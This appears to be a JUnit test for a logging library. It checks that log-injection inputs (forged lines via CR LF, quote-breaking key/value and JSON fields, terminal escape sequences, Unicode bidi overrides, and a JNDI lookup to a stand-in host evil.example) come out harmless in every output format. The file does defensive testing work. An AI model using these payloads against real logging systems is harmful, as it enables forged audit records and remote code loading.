package dev.clew.layout;

import static org.assertj.core.api.Assertions.assertThat;

import dev.clew.layout.internal.line.Field;
import dev.clew.layout.internal.line.FieldNames;
import dev.clew.testkit.ParsedLine;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts with which attackers forge log lines, in the message, a value and a key, in every format. */
class InjectionTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                // a forged line behind a CR LF
                "user=bob\r\n2026-11-22 10:00:05 INFO Login succeeded for admin",
                // one in our own format
                "x\nts=2026-11-22T10:00:05.003120Z level=ERROR service=bank msg=\"transfer failed\"",
                // a forged pair behind a closing quote
                "guest\" level=ERROR admin=true x=\"",
                // the same for JSON, with a key that is there already
                "guest\",\"level\":\"ERROR\",\"msg\":\"forged",
                // the end of the object, and another
                "x\"}\n{\"level\":\"ERROR\",\"msg\":\"forged\"}",
                // an escaped quote that an escaper which forgets backslashes turns back into one
                "\\\" level=ERROR \\\\\" x=\"",
                // a terminal that clears its screen, colours, and sets its title
                "\u001b[2J\u001b[1;31mALARM\u001b[0m\u001b]0;owned\u0007",
                // the same by the C1 controls that need no escape character
                "\u009b2J\u009d0;owned\u009c",
                // separators that some readers take for line ends, and a NUL that ends C's strings
                "a\u0085b\u2028c\u2029d\u000be\u000cf\u0000g",
                // text that is shown in another order than it stands
                "ok \u202e}\"drowssap\"=x\u2066 admin\u2069",
                // look-ups of log libraries
                "${jndi:ldap://evil.example/a} ${env:SECRET} %X{user} {}"
            })
    void comesOutHarmless(String snippet) {
        for (LogLayout.Format format : LogLayout.Format.values()) {
            TestEvent event =
                    TestEvent.event().message(snippet).with("value", snippet).with(snippet, "key");
            event.mdc("mdc", snippet);
            byte[] line = TestEvent.layout(format, Redaction.standard()).encode(event);
            String text = new String(line, StandardCharsets.UTF_8);
            assertThat(text.chars()
                            .filter(c -> c < ' ' || c >= 0x7f && c < 0xa0)
                            .toArray())
                    .as("control characters of %s", text)
                    .containsExactly('\n');
            assertThat(text).doesNotContain("\u2028", "\u2029", "\u202e", "\u2066");
            Map<String, String> read = ParsedLine.parse(line);
            FieldNames names = format.names();
            assertThat(read)
                    .containsEntry(names.of(Field.LEVEL), "INFO")
                    .containsEntry(names.of(Field.MSG), snippet)
                    .containsEntry("value", snippet)
                    .containsEntry("mdc", snippet)
                    .hasSize(11);
        }
    }
}
